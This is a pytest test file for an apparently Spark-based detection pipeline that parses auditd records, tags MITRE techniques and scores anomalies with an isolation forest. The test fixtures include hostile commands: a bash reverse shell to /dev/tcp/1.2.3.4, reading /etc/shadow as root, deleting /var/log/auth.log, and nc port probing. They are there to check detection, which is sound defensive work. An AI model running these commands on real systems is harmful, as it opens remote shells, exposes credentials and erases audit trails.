"""The detection pipeline on hand-made records and on the labelled scenarios."""

import json
from datetime import datetime, timedelta, timezone

import numpy as np
import pytest
from pyspark.sql import Window
from pyspark.sql import functions as F

from sentrylake.operators import baseline, calibrate, evaluate, iforest
from sentrylake.operators.alerts import alert_rows, read_table, upsert
from sentrylake.operators.attack import with_techniques
from sentrylake.operators.ladders import FEATURE_NAMES, RULES
from sentrylake.plans import detect
from sentrylake.sources.audit import from_documents
from sentrylake.sources import artifacts
from sentrylake.sources.scenarios import generate, labelled

T0 = datetime(2026, 6, 1, 3, 30, tzinfo=timezone.utc)


def raw(spark, docs):
    return from_documents(spark.createDataFrame([(i, json.dumps(d)) for i, d in enumerate(docs)], "ordinal long, doc string"))


def events(spark, docs):
    return detect.contextual(raw(spark, docs)).orderBy("ordinal").collect()


def tags(spark, docs):
    rows = with_techniques(detect.contextual(raw(spark, docs))).orderBy("ordinal").collect()
    return [{m.technique_id: m.confidence for m in r.mitre} for r in rows]


def record(kind, seq, at, fields, line="", **more):
    """A structured record as a shipper sends it."""
    raw = f"type={kind} msg=audit({at.timestamp():.3f}:{seq}): {line}"
    return {"@timestamp": at.isoformat(), "host": {"hostname": "h1", "ip": ["10.0.0.1"]}, "event": {"module": "auditd", "original": raw, **more.pop("event", {})}, "auditd": {"log": {"sequence": str(seq), "record_type": kind, **fields}}, **more}


def command(line, exe=None, uid=1000, auid=1000, seq=1, at=T0, call="execve", path=None, key=None):
    words, names = line.split(), {0: "root", 1000: "dev"}
    exe = exe or f"/usr/bin/{words[0]}"
    fields = {"SYSCALL": call, "exe": exe, "comm": words[0], "uid": str(uid), "euid": str(uid), "auid": str(auid), "AUID": names.get(auid, "unset"), "UID": names.get(uid, "unset"), "success": "yes"}
    out = [record("SYSCALL", seq, at, fields | ({"key": key} if key else {}), event={"action": call, "category": ["process"]})]
    out += [record("EXECVE", seq, at, {f"a{k}": w for k, w in enumerate(words)}), record("PROCTITLE", seq, at, {"proctitle": line.encode().hex()}), record("CWD", seq, at, {"cwd": "/home/dev"})]
    return out + ([record("PATH", seq, at, {"name": path})] if path else [])


def test_structured_fields_win_and_children_are_joined(spark):
    (e,) = events(spark, command("cat /etc/shadow", uid=0, call="openat", path="/etc/shadow", key='shadow"\x1dARCH=x'))
    assert (e.action, e.comm, e.uid, e.auid, e.audit_key, e.cwd) == ("openat", "cat", 0, 1000, "shadow", "/home/dev")
    assert e.command_line == "cat /etc/shadow" and e.path_text == "/etc/shadow" and e.n_args == 2
    assert e.privilege_transition and e.is_root and e.touches_sensitive and not e.is_root_daemon
    assert (e.hour_utc, e.weekday) == (3, 0)


def test_plain_lines_give_the_same(spark):
    line = 'type=SYSCALL msg=audit(1785459648.235:4258): success=yes auid=4294967295 uid=0 euid=0 comm="x" exe="/tmp/.x/payload" key="a"\x1dSYSCALL=execve AUID="unset" UID="root"'
    (e,) = events(spark, [{"@timestamp": "2026-06-01T00:00:00Z", "message": line, "host": {"name": "h"}}])
    assert (e.event_id, e.record_type, e.action, e.host, e.auid, e.auid_name) == ("1785459648.235:4258", "SYSCALL", "execve", "h", -1, None)
    assert e.is_root_daemon and not e.privilege_transition and e.exe_unusual and e.audit_key == "a"


def test_sparse_and_broken_records_do_not_fail(spark):
    docs = [{}, {"auditd": {"log": {"record_type": "SYSCALL"}}}, {"@timestamp": "x", "message": "= =x a"}, {"event": {"action": ["login", "b"], "category": "auth"}}, {"auditd": "text"}]
    got = events(spark, docs)
    assert len(got) == 5 and {e.recent_auth_failures for e in got} == {0}
    assert got[3].record_type == "LOGIN" and got[3].category == ["auth"] and got[0].record_type == "UNKNOWN"
    rows = detect.featured(detect.contextual(raw(spark, docs))).select(*FEATURE_NAMES).collect()
    assert len(FEATURE_NAMES) == 28 and all(v is not None for r in rows for v in r)


def test_path_and_arguments_onto_a_bare_sequence(spark):
    kids = [("SYSCALL", {}), ("PATH", {"name": "/a"}), ("EXECVE", {"a0": "ls", "a1": "-l"}), ("PATH", {"name": "/b"}), ("SOCKADDR", {"saddr": "0200115ccb0071040000000000000000"})]
    docs = [{"auditd": {"log": {"sequence": "42", "record_type": k} | f}} for k, f in kids]
    (e,) = events(spark, docs)
    assert (e.event_id, e.path_text, e.command_line, e.dest_ip, e.dest_port) == ("42", "/a\n/b", "ls -l", "203.0.113.4", 4444)
    assert e.is_remote


def login(minute, ok=False, account="root", kind="USER_AUTH", seq=1):
    result = "success" if ok else "failed"
    fields = {"acct": account, "exe": "/usr/sbin/sshd", "addr": "203.0.113.7", "terminal": "ssh", "res": result}
    return record(kind, seq, T0 + timedelta(minutes=minute), fields, f'acct="{account}" addr=203.0.113.7 terminal=ssh res={result}')


def test_failure_windows(spark):
    docs = [login(i) for i in range(6)] + [login(15), login(25), login(25), login(25.5, account="dev"), login(26, ok=True)]
    got = [e.recent_auth_failures for e in events(spark, docs)]
    assert got == [1, 2, 3, 4, 5, 6, 2, 2, 3, 1, 2]  # both ends of the ten minutes count; equal times count in order of arrival


def test_windows_across_hours_and_batches(spark):
    docs = [login(m) for m in (25, 29, 31, 36)]  # 03:55, 03:59, 04:01, 04:06
    rows = raw(spark, docs)
    assert [e.recent_auth_failures for e in detect.contextual(rows).orderBy("ordinal").collect()] == [1, 2, 3, 3]
    from sentrylake.operators.signals import with_signals

    flagged = detect.flagged(rows).withColumn("batch", F.col("ordinal") > 1)
    assert [e.recent_auth_failures for e in with_signals(flagged, "batch").orderBy("ordinal").collect()] == [1, 2, 1, 2]
    assert {e.recent_distinct_ports for e in with_signals(flagged, compat=True).collect()} == {0}


def test_distinct_ports(spark):
    docs = []
    for i in range(20):
        at, port = T0 + timedelta(seconds=10 * i), f"{1000 + i % 16:04x}"
        docs += command("nc host", seq=100 + i, at=at) + [record("SOCKADDR", 100 + i, at, {"saddr": f"0200{port}cb007104"})]
    got = [e.recent_distinct_ports for e in events(spark, docs)]
    assert got == [min(i + 1, 16) for i in range(20)]
    assert tags(spark, docs)[15]["T1046"] == 0.5


def test_rules(spark):
    (a,), (b,), (c,) = (tags(spark, command(x)) for x in ("sudo su -", "sudo apt install x", "ls -la"))
    assert a["T1548.003"] == 0.85 and "T1548.003" not in b and c == {}
    (r,) = tags(spark, command("bash -c bash -i >& /dev/tcp/1.2.3.4/1 0>&1"))
    assert r["T1059.004"] == 0.85 and r["T1071"] == 0.5
    assert "T1110" not in tags(spark, [login(0)])[0] and tags(spark, [login(i / 2) for i in range(8)])[7]["T1110"] == 0.85
    assert tags(spark, command("rm /var/log/auth.log", call="unlink", path="/var/log/auth.log"))[0]["T1070.002"] == 0.7
    assert len(RULES) == 25


def test_scenarios_give_sixteen_of_twenty_two(spark):
    assert len(generate()) == 100
    records, labels = labelled(spark, 2)
    rows = with_techniques(detect.contextual(records)).join(labels, "ordinal").cache()
    assert rows.count() == 70
    got = evaluate.technique_accuracy(rows).first()
    assert (got.expected, got.hits) == (44, 32)


@pytest.fixture(scope="module")
def trained(spark):
    """A baseline of days of normal work, and the model of it."""
    records, labels = labelled(spark, 70)
    events = detect.stored(detect.contextual(records.join(labels.where("label = 'normal'"), "ordinal", "left_semi")), "normal")
    return detect.train(events, trees=60, sample=256)


def test_detection_quality(spark, trained):
    records, labels = labelled(spark, 3)
    alerts = detect.detect(records, trained, "2026-06-10 00:00:00").join(labels, "ordinal").cache()
    means = {r.label: r.m for r in alerts.groupBy("label").agg(F.avg("risk_score").alias("m")).collect()}
    assert means["malicious"] > means["normal"] + 10
    m = evaluate.metrics(alerts, "medium").first()
    assert m.recall >= 0.6 and m.fpr <= 0.35
    assert alerts.select("risk_score").distinct().count() >= 6
    found = {r.scenario: r.detected for r in evaluate.by_scenario(alerts, "medium").collect()}
    assert found["password_guessing"] and found["sudo_to_shell"]
    row = alerts.where("scenario = 'password_guessing' and recent_auth_failures = 9").first()
    assert row.title == "Repeated authentication failures" and "9 authentication failures" in row.summary
    assert row.factors[-1].label == "Risk score" and row.factors[-1].value.startswith(str(row.risk_score))


def test_risk_follows_anomaly_and_weights(spark, trained):
    records, _ = labelled(spark)
    rows = iforest.with_raw_score(detect.featured(detect.contextual(records), trained["profile"]), trained["forest"])
    risk = lambda cal, w=None: {r.ordinal: (r.risk_score, r.context_modifier, r.severity) for r in detect.assessed(rows, cal, w).collect()}
    low, high = (risk(calibrate.Calibration((q,), 0.0, 1.0, 1)) for q in (-9.0, 9.0))
    assert all(high[k][0] >= low[k][0] for k in low) and len({v[0] for v in high.values()}) >= 3
    from sentrylake.config import weights

    capped = risk(calibrate.Calibration((9.0,), 0.0, 1.0, 1), weights({"context_modifier.max": 0.3}))
    assert all(v[1] <= 0.3 for v in capped.values())


def test_rarity(spark):
    common = [d for i in range(200) for d in command("ls", seq=i)[:1]] + command("nmap", seq=999)[:1]
    rows = detect.contextual(raw(spark, common)).cache()
    profile = baseline.counts(rows)
    got = {r.exe: r.rarity_exe for r in baseline.with_rarity(rows, profile).collect()}
    assert got["/usr/bin/ls"] < 0.2 < 0.8 < got["/usr/bin/nmap"]
    assert {r.rarity_exe for r in baseline.with_rarity(rows, profile.limit(0)).collect()} == {0.5}
    assert baseline.top_keys(profile, 1).where("kind = 'exe'").first().key == "/usr/bin/ls"
    capped = {r.exe: r.rarity_exe for r in baseline.with_rarity(rows, profile, baseline.top_keys(profile, 1)).collect()}
    assert capped["/usr/bin/nmap"] == 1.0


def test_forest_and_calibration(spark):
    rng = np.random.default_rng(1)
    x = np.abs(rng.normal(0, 0.4, (2000, 4)))
    rows = spark.createDataFrame([(i, *map(float, v)) for i, v in enumerate(x)] + [(9999, 9.0, 9.0, 9.0, 9.0)], "ordinal long, a double, b double, c double, d double")
    names = ["a", "b", "c", "d"]
    forest = iforest.fit(rows, names, trees=80, sample=256)
    again = iforest.fit(rows.repartition(5), names, trees=80, sample=256)
    assert forest["nodes"].equals(again["nodes"])
    scored = iforest.with_raw_score(rows, forest).cache()
    cal = calibrate.fit(scored, "raw_score")
    got = {r.ordinal: r for r in calibrate.with_anomaly(scored, "raw_score", cal).collect()}
    assert got[9999].prediction == -1 and got[9999].anomaly_score > 0.99
    assert len({round(r.anomaly_score, 2) for r in got.values()}) > 20
    ranks = np.array([got[i].raw_score for i in range(2000)]).argsort().argsort()
    scores = np.array([got[i].anomaly_score for i in range(2000)])
    assert np.abs(scores - (1 - (ranks + 1) / 2001)).max() < 0.02
    assert all((r.prediction == -1) == (r.anomaly_score >= 0.98) for r in got.values() if abs(r.anomaly_score - 0.98) > 1e-3)


def test_upsert_is_idempotent(spark, tmp_path, sf):
    rows = alert_rows(detect.proxy_assessed(labelled(spark)[0]), "2026-06-05 00:00:00").cache()
    path = f"file://{tmp_path}/alerts"
    assert read_table(spark, path) is None
    for batch in (rows.where("ordinal < 48"), rows, rows, rows.unionByName(rows)):
        upsert(path, batch)
    got = read_table(spark, path)
    assert got.count() == rows.select("alert_id").distinct().count() == 35
    upsert(path, rows.limit(1).withColumn("title", F.lit("changed")))
    assert read_table(spark, path).where("title = 'changed'").count() == 1 and read_table(spark, path).count() == 35


def test_upsert_touches_only_the_days_of_the_batch(spark, tmp_path):
    rows = alert_rows(detect.proxy_assessed(labelled(spark, 3)[0]), "2026-06-05 00:00:00").cache()
    path = f"file://{tmp_path}/alerts"
    days = sorted({str(r.d) for r in rows.select(F.to_date("event_ts").alias("d")).collect()})
    upsert(path, rows)
    written = lambda: {f: f.stat().st_mtime_ns for f in tmp_path.glob("alerts/data-*/event_day=*/*.parquet")}
    before = written()
    first = F.to_date("event_ts") == days[0]
    for k in range(4):
        upsert(path, rows.where(first).withColumn("title", F.lit(f"v{k}")))
    after = written()
    assert {f: t for f, t in before.items() if days[0] not in str(f)}.items() <= after.items() and len(days) == 3
    got = read_table(spark, path)
    assert got.count() == 105 and got.where("title = 'v3'").count() == 35 == got.where(first).count()
    folders = {p.name for p in (tmp_path / "alerts").iterdir() if not p.name.startswith(".")}
    assert folders == {"data-1", "data-4", "data-5", "manifest-000000000004", "manifest-000000000005"}  # and what readers may still use
    upsert(path, rows.limit(0))
    assert read_table(spark, path).count() == 105


def test_artifacts_score_alike_after_loading(spark, trained, tmp_path):
    path = f"file://{tmp_path}/models"
    assert artifacts.load(spark, path) is None
    with pytest.raises(TimeoutError):
        artifacts.wait(spark, path, 0.01)
    version = artifacts.save(spark, trained, path)
    again = artifacts.wait(spark, path, 0)
    assert again["version"] == version == artifacts.save(spark, trained, path)
    records, _ = labelled(spark)
    rows = lambda m: sorted((r.ordinal, r.raw_score, r.anomaly_score, r.risk_score) for r in detect.detect(records, m, "2026-06-05 00:00:00").collect())
    assert rows(trained) == rows(again)
    one = detect.detect(records, again, "2026-06-05 00:00:00").first()
    assert one.model_version == version and one.log.log_message.startswith("type=")


def test_forest_scores_by_definition(spark):
    """Path lengths by walking every tree node by node; with a contamination that share of the pool is below zero."""
    rng = np.random.default_rng(3)
    x = rng.normal(0, 1, (600, 3))
    rows = spark.createDataFrame([(i, *map(float, v)) for i, v in enumerate(x)], "ordinal long, a double, b double, c double").repartition(3)
    model = iforest.fit(rows, ["a", "b", "c"], trees=30, sample=128, contamination=0.1)
    got = {r.ordinal: r.raw_score for r in iforest.with_raw_score(rows, model).collect()}
    trees = [t.set_index("node").to_dict("index") for _, t in model["nodes"].groupby("tree")]
    z = (x - model["mean"]) / model["scale"]
    c = lambda n: 0.0 if n < 2 else 1.0 if n == 2 else 2 * (np.log(n - 1) + 0.5772156649015329) - 2 * (n - 1) / n
    for i in range(len(x)):
        total = 0.0
        for nodes in trees:
            at, depth = 0, 0
            while nodes[at]["feature"] >= 0:
                at, depth = nodes[at]["left" if z[i, nodes[at]["feature"]] <= nodes[at]["cut"] else "right"], depth + 1
            total += depth + c(nodes[at]["size"])
        assert abs(got[i] - (-(2 ** (-total / len(trees) / c(128))) - model["offset"])) < 1e-9
    assert abs(np.mean([v < 0 for v in got.values()]) - 0.1) < 0.005


def test_quantiles_are_exact(spark):
    rng = np.random.default_rng(6)
    for x in (np.round(rng.normal(0, 1, 3333), 2), np.array([1.5]), np.repeat([1.0, 2.0], [5, 700])):
        cal = calibrate.fit(spark.createDataFrame([(float(v),) for v in x] + [(None,)], "s double").repartition(7), "s")
        assert np.allclose(cal.quantiles, np.percentile(x, np.linspace(0, 100, 1001)), atol=1e-9) and cal.n == len(x)


def test_streamed_detection(spark, trained, tmp_path):
    from sentrylake.streaming.jobs import detection_loop

    records, _ = labelled(spark)
    source, table = f"file://{tmp_path}/raw", f"file://{tmp_path}/table"
    for part in (records.where("ordinal < 48"), records.where("ordinal >= 48")):
        part.write.mode("append").parquet(source)
        stream = spark.readStream.schema(records.schema).parquet(source)
        detection_loop(stream, trained, table, f"file://{tmp_path}/checkpoint").awaitTermination()
    got = read_table(spark, table)
    assert got.count() == got.select("alert_id").distinct().count() == 35


def test_scratch_tables_of_a_micro_batch_go(spark, trained, tmp_path, monkeypatch):
    from sentrylake.plans import session
    from sentrylake.streaming.jobs import detection_loop

    records, _ = labelled(spark)
    made = []
    monkeypatch.setattr(session, "scratch", lambda s, name, f=session.scratch: made.append(f(s, name)) or made[-1])
    records.write.parquet(f"file://{tmp_path}/raw")
    stream = spark.readStream.schema(records.schema).parquet(f"file://{tmp_path}/raw")
    detection_loop(stream, trained, f"file://{tmp_path}/table", f"file://{tmp_path}/checkpoint").awaitTermination()
    assert made and not any(session.Folder(spark, p).exists("") for p in made)


def test_children_of_other_micro_batches_join_their_event(spark, trained, tmp_path):
    """Scenarios whose children come after, before and with their event: the alerts are those of one batch."""
    from sentrylake.streaming.jobs import detection_loop

    records, _ = labelled(spark)
    kind = F.coalesce(F.element_at("log", "record_type"), F.regexp_extract(F.coalesce("message", "original"), r"type=(\w+)", 1))
    child = kind.isin("EXECVE", "PROCTITLE", "CWD", "PATH", "SOCKADDR")
    end = records.limit(1).withColumns({"ordinal": F.lit(10**9).cast("long"), "ts": F.lit("2027-01-01 00:00:00").cast("timestamp"), "message": F.lit("type=USER_END msg=audit(1.000:1):"), "original": F.lit(None).cast("string"), "log": F.lit(None).cast("map<string,string>")})
    parts = [records.where(child & (F.col("ordinal") % 2 == 0)), records.where(~child), records.where(child & (F.col("ordinal") % 2 == 1)), end]
    for part in parts:
        part.write.mode("append").parquet(f"file://{tmp_path}/raw")
        stream = spark.readStream.schema(records.schema).parquet(f"file://{tmp_path}/raw")
        detection_loop(stream, trained, f"file://{tmp_path}/table", f"file://{tmp_path}/checkpoint", late="60 days").awaitTermination()
    view = lambda rows: {r.alert_id: (r.command_line, r.cwd, r.risk_score, r.title, str(r.network)) for r in rows.collect()}
    got, want = view(read_table(spark, f"file://{tmp_path}/table")), view(detect.detect(records, trained, "2026-06-05 00:00:00"))
    assert len(want) == 35 and {k: v for k, v in got.items() if k in want} == want


def test_interleaved_upserts_lose_nothing(spark, tmp_path, monkeypatch):
    """Two writers are ready at once, over days that they share and days that they don't; the second merges again."""
    from sentrylake.operators import alerts as sink

    rows = alert_rows(detect.proxy_assessed(labelled(spark, 3)[0]), "2026-06-05 00:00:00").cache()
    path = f"file://{tmp_path}/alerts"
    day = F.dense_rank().over(Window.orderBy(F.to_date("event_ts")))
    rows = rows.withColumn("d", day).cache()
    upsert(path, rows.where("d = 1 and ordinal % 3 = 0").drop("d"))
    real, ready = sink.Folder.create, []

    def create(self, name, text):
        if name.startswith("manifest-") and not ready:
            ready.append(name)
            upsert(path, rows.where("d < 3 and ordinal % 3 = 1").withColumn("title", F.lit("other")).drop("d"))  # gets in first
        return real(self, name, text)

    monkeypatch.setattr(sink.Folder, "create", create)
    upsert(path, rows.where("(d = 1 or d = 2 and ordinal % 2 = 0 or d = 3) and ordinal % 3 = 2").drop("d"))
    want = rows.where("d = 1 or d = 2 and (ordinal % 3 = 1 or ordinal % 3 = 2 and ordinal % 2 = 0) or d = 3 and ordinal % 3 = 2")
    got = read_table(spark, path)
    assert sorted(r.alert_id for r in got.collect()) == sorted(r.alert_id for r in want.select("alert_id").distinct().collect())
    assert got.where("title = 'other'").count() == rows.where("d < 3 and ordinal % 3 = 1").count() and ready == ["manifest-000000000002"]
    assert [n for n in sink.Folder(spark, path).names() if n.startswith("manifest-")] == ["manifest-000000000002", "manifest-000000000003"]


def test_current_model_is_never_missing(spark, tmp_path):
    from sentrylake.plans.session import Folder

    folder = Folder(spark, f"file://{tmp_path}/m")
    assert folder.latest("current") is None
    for k in range(4):
        folder.publish("current", f"v{k}")
        assert folder.latest("current") == f"v{k}" and len(folder.versions("current")) == min(k + 1, 2)
    assert not folder.create("current-000000000004", "x") and folder.latest("current") == "v3"
    folder.replace("summary", "a")
    folder.replace("summary", "b")
    assert folder.read("summary") == "b" and not [n for n in folder.names() if n.endswith(".new")]
